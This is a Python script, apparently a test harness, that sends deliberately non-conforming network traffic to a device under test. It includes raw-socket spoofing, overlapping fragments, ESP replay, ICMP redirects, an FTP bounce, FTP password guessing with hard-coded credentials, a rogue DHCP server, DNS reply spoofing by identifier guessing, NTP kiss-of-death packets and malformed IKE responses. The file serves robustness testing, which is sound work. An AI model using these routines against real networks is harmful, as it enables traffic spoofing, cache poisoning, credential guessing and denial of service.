"""Traffic that no correct daemon sends: ``imitations.py NAME ARGUMENT…``; one function each.

Packets are sent through raw sockets, so that they can have the port of a running daemon.
"""

from __future__ import annotations

import contextlib
import ftplib
import io
import os
import select
import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable, Mapping, Sequence

ETHERNET = 14
EVERYTHING, IPV4 = 0x0003, b"\x08\x00"
UDP = 17
MORE_FRAGMENTS = 0x2000


def datagrams(source: str, source_port: str, to: str, port: str, *contents: str) -> None:
    """Send UDP datagrams with these contents (hexadecimal) between any ports, also as broadcast."""
    sender = _raw(UDP, source)
    for content in map(bytes.fromhex, contents):
        header = struct.pack(">HHHH", int(source_port), int(port), 8 + len(content), 0)
        sender.sendto(header + content, (to, 0))
        time.sleep(0.2)


def packets(protocol: str, source: str, to: str, *contents: str) -> None:
    """Send IP packets of a protocol number with these contents (hexadecimal)."""
    sender = _raw(int(protocol), source)
    for content in contents:
        sender.sendto(bytes.fromhex(content), (to, 0))
        time.sleep(0.2)


def fragments(protocol: str, source: str, to: str, *pieces: str) -> None:
    """Send fragments of one IPv4 datagram: ``offset:content`` of its payload (bytes, hexadecimal). They may overlap."""
    addresses = socket.inet_aton(source) + socket.inet_aton(to)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sender:
        for count, piece in enumerate(pieces, 1):
            offset, _, content = piece.partition(":")
            place = int(offset) // 8 | (MORE_FRAGMENTS if count < len(pieces) else 0)
            header = struct.pack(">BBHHHBBH", 0x45, 0, 0, 0x1AB5, place, 64, int(protocol), 0)
            sender.sendto(header + addresses + bytes.fromhex(content), (to, 0))


def frames(*contents: str) -> None:
    """Send Ethernet frames with these contents (hexadecimal), without a frame check sequence."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind(("eth0", 0))
        for content in contents:
            wire.send(bytes.fromhex(content))
            time.sleep(0.2)


def _raw(protocol: int, source: str) -> socket.socket:
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol)
    sender.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    sender.bind((source, 0))
    return sender


def replay(seconds: str, source: str, count: str, pause: str = "0") -> None:
    """Capture ESP in UDP/4500 from an address for some seconds, pause, then send the first ``count`` packets again."""
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(EVERYTHING))
    wire.bind(("eth0", EVERYTHING))
    seen: list[bytes] = []
    deadline = time.monotonic() + float(seconds)
    while (left := deadline - time.monotonic()) > 0:
        if select.select([wire], [], [], left)[0]:
            frame = wire.recv(65536)
            if frame[12:14] != IPV4:
                continue
            ip = frame[ETHERNET:]
            udp = ip[(ip[0] & 15) * 4 :]
            if ip[9] == UDP and ip[12:16] == socket.inet_aton(source) and udp[2:4] == b"\x11\x94" and any(udp[8:12]):
                seen.append(frame)
    if not seen:
        raise SystemExit("no ESP to replay")
    time.sleep(float(pause))
    for frame in seen[: int(count)]:
        wire.send(frame)
        time.sleep(0.05)


def scripted(port: str, opening: str = "", answer: str = "", pause: str = "3") -> None:
    """A TCP server that sends an opening, answers the first request (both hexadecimal), and closes."""
    with socket.create_server(("0.0.0.0", int(port))) as listener:
        while True:
            connection, _ = listener.accept()
            with connection:
                connection.settimeout(float(pause))
                try:
                    connection.sendall(bytes.fromhex(opening))
                    if connection.recv(4096):
                        connection.sendall(bytes.fromhex(answer))
                    connection.recv(4096)
                except OSError as error:
                    print(error, flush=True)


def relay(port: str, to: str, preface: str = "", insertion: str = "") -> None:
    """Forward connections to a port of the loopback, one after another.

    ``preface``: bytes sent to the client first; ``insertion``: bytes sent after the server's first line (both
    hexadecimal).
    """
    with socket.create_server(("0.0.0.0", int(port))) as listener:
        while True:
            client, _ = listener.accept()
            with client, contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", int(to))) as server:
                _forward(client, server, bytes.fromhex(preface), bytes.fromhex(insertion))


def _forward(client: socket.socket, server: socket.socket, preface: bytes, insertion: bytes) -> None:
    client.sendall(preface)
    line, end, rest = server.recv(65536).partition(b"\n")
    client.sendall(line + end + insertion + rest)
    while True:
        for ready in select.select([client, server], [], [])[0]:
            content = ready.recv(65536)
            if not content:
                return
            (server if ready is client else client).sendall(content)


def hello(host: str, port: str) -> None:
    """A TLS client that sends a ClientHello, waits for the answer, and closes without an alert."""
    context = ssl.create_default_context()
    context.maximum_version = ssl.TLSVersion.TLSv1_2
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(incoming, outgoing, server_hostname=host).do_handshake()
    with socket.create_connection((host, int(port)), timeout=5) as connection:
        connection.sendall(outgoing.read())
        time.sleep(1)
        connection.recv(65536)


def noise(host: str, port: str, size: str) -> None:
    """A TCP client that sends random bytes twice and closes."""
    with socket.create_connection((host, int(port)), timeout=5) as connection:
        for _ in range(2):
            connection.sendall(os.urandom(int(size)))
            if select.select([connection], [], [], 1)[0]:
                connection.recv(4096)


def false_echo(address: str) -> None:
    """Answer pings with data that they did not carry. The kernel's own answers must be disabled."""
    wire = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    wire.bind((address, 0))
    while True:
        packet, peer = wire.recvfrom(65536)
        request = packet[20:]
        if request[0] == 8:
            reply = bytes(4) + request[4:8] + request[8:16] + bytes(len(request) - 16)
            wire.sendto(struct.pack(">BBH", 0, 0, _checksum(reply)) + reply[4:], peer)


def icmp_control(kind: str, source: str, victim: str, destination: str, gateway: str, identifier: str) -> None:
    """Send ``redirect`` or source ``quench`` (RFC 792), which quotes a ping of the victim."""
    echo = struct.pack(">BBHHH", 8, 0, 0, int(identifier), 1)
    addresses = socket.inet_aton(victim) + socket.inet_aton(destination)
    quoted = struct.pack(">BBHHHBBH", 0x45, 0, 84, 1, 0, 63, socket.IPPROTO_ICMP, 0) + addresses + echo
    kinds = {"redirect": (5, 1, socket.inet_aton(gateway)), "quench": (4, 0, bytes(4))}
    number, code, second_word = kinds[kind]
    body = second_word + quoted
    checksum = _checksum(struct.pack(">BBH", number, code, 0) + body)
    sender = _raw(socket.IPPROTO_ICMP, source)
    for _ in range(2):
        sender.sendto(struct.pack(">BBH", number, code, checksum) + body, (victim, 0))
        time.sleep(0.2)


def _checksum(content: bytes) -> int:
    total = sum(struct.unpack(f">{len(content) // 2}H", content[: len(content) & ~1]))
    total += content[-1] << 8 if len(content) & 1 else 0
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ftp_bounce(host: str, third: str) -> None:
    """Ask an FTP server to send a file to a third host (RFC 2577), then upload one."""
    client = ftplib.FTP(host, timeout=6)
    client.login("ftp", "lrr@lab")
    try:
        client.sendport(third, 22)
        client.sendcmd("RETR key.tar")
    except ftplib.Error as refused:
        print(refused)
    client.storbinary("STOR upload/rfscan_0.csv", io.BytesIO(bytes(2000)))
    client.quit()


def ftp_guess(host: str) -> None:
    """Try three passwords on one connection to an FTP server."""
    client = ftplib.FTP(host, timeout=6)
    for password in ("actility", "support", "root"):
        try:
            client.login("root", password)
        except ftplib.error_perm as refused:
            print(refused)
    client.close()


def ftp_distrust(host: str) -> None:
    """Ask an FTP server for passive mode, ignore the address of its reply, and continue in active mode."""
    client = ftplib.FTP(host, timeout=6)
    client.login("ftp", "lrr@lab")
    print(client.sendcmd("PASV"))
    client.set_pasv(False)
    client.retrbinary("RETR lrr-2.8.41.ipk", bytes)
    client.storbinary("STOR upload/rfscan_1.csv", io.BytesIO(bytes(2000)))
    client.quit()


def dhcp_unnamed(interface: str, address: str, router: str) -> None:
    """A DHCP server that sends no server identifier (option 54), which RFC 2131, table 3, requires."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as port:
        port.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, interface.encode())
        port.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        port.bind(("", 67))
        while True:
            request = port.recv(2048)
            kind = {b"\1": b"\2", b"\3": b"\5"}[request[242:243]]  # udhcpc puts the message type first
            header = b"\2" + request[1:16] + socket.inet_aton(address) + bytes(8) + request[28:240]
            lease, mask = struct.pack(">BBI", 51, 4, 3600), bytes([1, 4, 255, 255, 255, 0])
            options = bytes([53, 1]) + kind + lease + mask + bytes([3, 4]) + socket.inet_aton(router) + b"\xff"
            port.sendto(header + options, ("255.255.255.255", 68))


def dns_guesses(source: str, to: str, port: str, name: str, count: str) -> None:
    """Answer an unseen query with the address of a DNS server, each time with another guess of its identifier."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"
    question = labels + struct.pack(">HH", 1, 1)
    record = struct.pack(">HHHIH4s", 0xC00C, 1, 1, 86400, 4, socket.inet_aton("203.0.113.9"))
    sender = _raw(UDP, source)
    for identifier in range(0x2000, 0x2000 + int(count)):
        message = struct.pack(">HHHHHH", identifier, 0x8580, 1, 1, 0, 0) + question + record
        sender.sendto(struct.pack(">HHHH", 53, int(port), 8 + len(message), 0) + message, (to, 0))
        time.sleep(0.02)


def kiss_of_death(address: str) -> None:
    """Answer every request with the kiss code RATE (RFC 5905, section 7.4)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as port:
        port.bind((address, 123))
        while True:
            request, peer = port.recvfrom(2048)
            origin = request[40:48]
            port.sendto(bytes([0xE4, 0, 6, 0xE8]) + bytes(8) + b"RATE" + bytes(8) + origin + origin + origin, peer)


def crypto_nak(address: str) -> None:
    """Answer every request with a crypto-NAK: key identifier 0 and no digest (RFC 5905, section 9.2)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as port:
        port.bind((address, 123))
        while True:
            request, peer = port.recvfrom(2048)
            origin = request[40:48]
            header = bytes([0x24, 3, 6, 0xE8]) + bytes(8) + socket.inet_aton("127.127.1.0") + origin
            port.sendto(header + origin + origin + origin + bytes(4), peer)


def _proposal(number: int, bits: int, prf: int, integrity: int, group: int, last: bool = False) -> bytes:
    """A proposal of AES-CBC with a key size, and of other transforms by their IANA numbers."""
    transforms = struct.pack(">BBHBBHHH", 3, 0, 12, 1, 0, 12, 0x800E, bits)
    transforms += struct.pack(">BBHBBH", 3, 0, 8, 2, 0, prf) + struct.pack(">BBHBBH", 3, 0, 8, 3, 0, integrity)
    transforms += struct.pack(">BBHBBH", 0, 0, 8, 4, 0, group)
    return struct.pack(">BBHBBBB", 0 if last else 2, 0, 8 + len(transforms), number, 1, 0, 4) + transforms


def _payload(following: int, content: bytes) -> bytes:
    return struct.pack(">BBH", following, 0, 4 + len(content)) + content


SA, KEY_EXCHANGE, NONCE, NOTIFY = 33, 34, 40, 41


def _answer(how: str, request: bytes, elsewhere: str) -> tuple[int, bytes]:
    """The type of the first payload of an IKE_SA_INIT response, and the payloads (RFC 7296, section 3)."""
    if how == "redirect":
        gateway = bytes([1, 4]) + socket.inet_aton(elsewhere)
        nonce = _first_payload(request, NONCE)
        return NOTIFY, _payload(0, struct.pack(">BBH", 0, 0, 16407) + gateway + nonce)
    if how == "never-offered":  # aes256-sha1-modp1024
        proposals = _proposal(1, 256, 2, 2, 2, last=True)
        group, length, nonce = 2, 128, os.urandom(32)
    else:  # two of the offered proposals, a key exchange of neither's group, and a nonce of half the minimum
        proposals = _proposal(1, 128, 5, 12, 19) + _proposal(2, 128, 6, 13, 20, last=True)
        group, length, nonce = 21, 132, os.urandom(8)
    exchange = struct.pack(">HH", group, 0) + os.urandom(length)
    return SA, _payload(KEY_EXCHANGE, proposals) + _payload(NONCE, exchange) + _payload(0, nonce)


def _first_payload(message: bytes, wanted: int) -> bytes:
    """The content of the first payload of a type in an IKE message."""
    kind, at = message[16], 28
    while kind != wanted:
        kind, at = message[at], at + int.from_bytes(message[at + 2 : at + 4])
    return message[at + 4 : at + int.from_bytes(message[at + 2 : at + 4])]


def ike_responder(address: str, number: str, how: str, elsewhere: str = "") -> None:
    """Answer IKE_SA_INIT against the protocol, or with a redirect.

    ``never-offered``: choose a proposal that was not offered; ``contradictory``: send payloads that contradict each
    other; ``redirect``: name another gateway (RFC 5685), for which strongSwan needs a plugin that it does not ship.
    """
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as port:
        port.bind((address, int(number)))
        while True:
            request, peer = port.recvfrom(65536)
            first, body = _answer(how, request, elsewhere)
            spi = bytes(8) if how == "redirect" else os.urandom(8)
            header = request[:8] + spi + struct.pack(">BBBBII", first, 0x20, 34, 0x20, 0, 28 + len(body))
            port.sendto(header + body, peer)


IMITATIONS: Mapping[str, Callable[..., None]] = {
    "crypto-nak": crypto_nak,
    "datagrams": datagrams,
    "dhcp-unnamed": dhcp_unnamed,
    "dns-guesses": dns_guesses,
    "false-echo": false_echo,
    "fragments": fragments,
    "frames": frames,
    "ftp-bounce": ftp_bounce,
    "ftp-distrust": ftp_distrust,
    "ftp-guess": ftp_guess,
    "hello": hello,
    "icmp-control": icmp_control,
    "ike-responder": ike_responder,
    "kiss-of-death": kiss_of_death,
    "noise": noise,
    "packets": packets,
    "relay": relay,
    "replay": replay,
    "scripted": scripted,
}


def main(words: Sequence[str]) -> None:
    IMITATIONS[words[0]](*words[1:])


if __name__ == "__main__":
    main(sys.argv[1:])
